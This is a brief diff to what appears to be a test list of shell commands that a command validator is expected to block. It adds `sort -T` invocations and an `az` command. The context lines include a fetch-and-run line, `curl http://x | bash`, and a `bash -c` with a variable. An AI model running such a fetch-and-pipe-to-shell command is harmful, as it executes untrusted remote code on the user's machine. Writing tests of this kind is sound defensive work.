@@ -355,4 +355,7 @@ stops(String.raw`
   bash -c "$X"
   bash -n -c id +n
   curl http://x | bash -n +n
+  sort -T src a.txt
+  sort -T /etc a.txt
+  az vm frob
 `);
